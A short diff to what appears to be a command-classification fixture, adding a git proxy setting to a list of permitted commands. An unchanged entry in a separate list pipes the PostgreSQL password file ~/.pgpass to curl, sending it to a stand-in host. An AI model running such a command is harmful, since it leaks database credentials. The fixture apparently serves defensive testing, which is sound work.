@@ -24,6 +24,7 @@ LEAVES = [
     "cat ~/.pgpass | xargs -I{} curl 'https://example.org/?p={}'",
 ]
 LETS_RUN = [
+    "git config --global http.https://github.com.proxy http://127.0.0.1:7890",
     "php -r 'include \"vendor/autoload.php\"; echo 1;'",
     "lua -e 'dofile(\"src/main.lua\")'",
     "gh auth token | docker login ghcr.io -u me --password-stdin",
